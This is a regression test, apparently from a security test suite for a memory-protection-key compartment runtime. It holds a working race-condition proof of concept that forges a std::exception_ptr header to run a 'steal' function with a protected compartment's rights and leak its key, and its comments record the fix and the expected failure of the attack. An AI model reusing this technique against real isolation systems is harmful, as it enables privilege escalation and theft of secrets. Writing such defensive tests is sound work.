// Review 54, attacker model A with a second thread (key-0 loads and stores
// only; reading /proc as key0-words.h does). The runtime's _M_release
// (runtime/exceptions.c, review 50's fix) reads the exception_ptr's word
// once for its check (one of the calling compartment's own live blocks)
// and then calls libstdc++'s _M_release with the same `this`, which reads
// the word again (three times in GCC 12's: the header it counts down and
// whose destructor it calls, the object it passes that destructor, the
// object it frees). Where `this` is memory another domain writes, the
// word checked is not the word used.
// How: the vault keeps an exception of its own and hands it out as an
// opaque error handle in its caller's memory (vault_error: a copy, count
// 2; the default domain cannot copy or end it, its pages are the
// vault's), and ends the handle in place when the caller hands it back
// (vault_forget: what std::destroy_at, optional::reset or a container's
// clear do). A contender thread makes the vault throw to it in a loop:
// each throw holds the vault's exception list lock across a pkey_mprotect
// the supervisor answers (the take-back's and the hand-over's). main waits
// until /proc/self/task/<contender>/syscall shows it waiting in
// pkey_mprotect, then calls vault_forget: the runtime reads the handle
// (the vault's own block), and its lock() yields; a flipper thread then
// stores into the handle the object of a header main forged in its heap
// (count 1, destructor = steal, a function of the program's whose address
// is taken in asm, so no gate wraps it). The check passes on the vault's
// block; libstdc++ reads the forged word, counts that header down to 0 and
// calls steal with the vault's rights, which writes the vault's key out
// (ATTACK SUCCEEDED). A round that misses only counts the vault's
// exception back to 1; up to ROUNDS rounds. The control stores the
// vault's own word again: every round lets go of the handle, nothing is
// stolen.
// Seen in the guest (review 54, main at d1ee6a0): ATTACK SUCCEEDED in
// round 1, 3 of 3; the control "nothing stolen" 3 of 3.
// Related, no race (reasoned, not run): the check asks only that the word
// names one of the compartment's own live blocks, not that `this` holds a
// counted reference to it, so a forged word in memory the vault ends
// counts the vault's own exception down (to 0: freed while the vault
// still names it, or to 1 while the vault keeps a copy, which the
// hand-over's count check relies on).
// Suggested fix: read the word once and hand libstdc++ a private copy of
// it (an exception_ptr on the compartment's own stack, passed by address)
// in _M_addref, _M_release and rethrow_exception, writing back to `this`
// what libstdc++'s _M_release leaves there; better, with a compartment's
// rights also refuse a `this` outside the compartment's own memory (its
// stacks, heap, data), which closes the uncounted reference too.
// Fixed (the first half): the runtime reads the word once, checks it, and
// gives libstdc++ the address of its copy on the compartment's stack
// (runtime/exceptions.c, own_word). Seen after, 3 of 3 in the guest: two
// runs of 20 rounds with nothing stolen, one stopped by the check's line
// (the forged word read). The uncounted reference stays open (run in
// review 56: attacks-rev56-eptr-forged-record.cpp, "own").
// Since review 56: with a compartment's rights _M_addref, _M_release and
// rethrow_exception refuse an exception_ptr whose `this` is outside the
// compartment's own memory (runtime/exceptions.c, check_self). The second
// half is closed with it: vault_error's copy into main's heap stops the
// process in round 1 with one line, before the flipper has anything to
// flip, in the attack and the control alike. The test still asserts that
// the vault's key stays put and that the process ends there.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -pthread %s -o %t
// RUN: not %run %t control 2>&1 | FileCheck %s
// RUN: not %run %t 2>&1 | FileCheck %s
// CHECK: the vault keeps its exception
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: bulkhead: error: compartment 'vault' took a std::exception_ptr kept outside its own memory
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK-NOT: rounds:
#include <bulkhead.h>
#include <exception>
#include <fcntl.h>
#include <new>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
#ifndef ROUNDS
#define ROUNDS 20
#endif

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_DATA(vault) alignas(std::exception_ptr) unsigned char
    vault_kept_bytes[sizeof(std::exception_ptr)];

struct E { /* trivial: its header has no destructor */
  int v;
};

extern "C" BULKHEAD_ENTRY(vault) void vault_throw(int v) { throw E{v}; }

/* The vault keeps its own exception across calls. */
extern "C" BULKHEAD_ENTRY(vault) void vault_keep(void) {
  try {
    throw E{17};
  } catch (...) {
    new (vault_kept_bytes) std::exception_ptr(std::current_exception());
  }
}

/* The vault's error as an opaque handle in the caller's memory (the
 * default domain cannot copy or end it: its pages are the vault's), and
 * its end, in place, when the caller hands it back. */
extern "C" BULKHEAD_ENTRY(vault) void vault_error(std::exception_ptr *out) {
  new (out) std::exception_ptr(
      *reinterpret_cast<std::exception_ptr *>(vault_kept_bytes));
}
extern "C" BULKHEAD_ENTRY(vault) void vault_forget(std::exception_ptr *p) {
  p->~exception_ptr();
}

static const char *volatile from = vault_key; /* key-0 words */
static volatile int round_now;

extern "C" __attribute__((used)) void steal(void *object) {
  (void)object;
  char msg[128] = "ATTACK SUCCEEDED: the vault's key in the program's "
                  "memory: ";
  size_t n = strlen(msg);
  for (int i = 0; i < 31 && from[i]; i++)
    msg[n++] = from[i];
  n += snprintf(msg + n, sizeof msg - n, " (round %d)\n", round_now);
  (void)!write(1, msg, n);
  _exit(0);
}

static std::exception_ptr *slot; /* main's heap: key-0 */
static void *volatile forged;    /* the forged header's object */
static void *volatile mine;      /* the vault's exception's object */
static volatile int contender_tid, go, stop, control;

/* Makes the vault throw to it in a loop: the vault's list lock is held
 * across the supervisor's answers. */
static void *contender(void *) {
  contender_tid = gettid();
  while (!stop) {
    try {
      vault_throw(2);
    } catch (E &) {
    }
  }
  return NULL;
}

/* Once main is in the vault: the word becomes the forged header's. */
static void *flipper(void *) {
  for (int seen = 0; !stop;) {
    if (go == seen) {
      sched_yield();
      continue;
    }
    seen = go;
    *(void *volatile *)slot = control ? mine : forged;
  }
  return NULL;
}

/* Whether the contender waits in pkey_mprotect, that is for the
 * supervisor with the vault's list lock held (the kernel's account of the
 * thread: nothing of the vault's is read). */
static int blocked_in_pkey_mprotect(int fd) {
  char buf[32];
  ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
  if (n <= 0)
    return 0;
  buf[n] = 0;
  return atoi(buf) == SYS_pkey_mprotect;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  control = argc > 1 && !strcmp(argv[1], "control");
  slot = (std::exception_ptr *)malloc(sizeof *slot);
  /* A header of main's: count 1, destructor steal. */
  unsigned char *h = (unsigned char *)aligned_alloc(16, 256);
  memset(h, 0, 256);
  *(int *)h = 1;
  uintptr_t p;
  __asm__("leaq steal(%%rip), %0" : "=r"(p));
  memcpy(h + 24, &p, 8);
  forged = h + 128;
  vault_keep();
  puts("the vault keeps its exception");
  pthread_t t1, t2;
  pthread_create(&t1, NULL, contender, NULL);
  pthread_create(&t2, NULL, flipper, NULL);
  while (!contender_tid)
    sched_yield();
  char path[64];
  snprintf(path, sizeof path, "/proc/self/task/%d/syscall", contender_tid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) {
    perror(path);
    return 1;
  }
  for (int round = 1; round <= ROUNDS; round++) {
    vault_error(slot); /* the vault's count: 2 */
    mine = *(void **)slot;
    while (!blocked_in_pkey_mprotect(fd))
      sched_yield();
    round_now = round;
    go++;
    vault_forget(slot); /* back to 1, or steal */
  }
  printf("rounds: %d\n", ROUNDS);
  stop = 1;
  pthread_join(t1, NULL);
  pthread_join(t2, NULL);
  puts("nothing stolen");
  return 0;
}
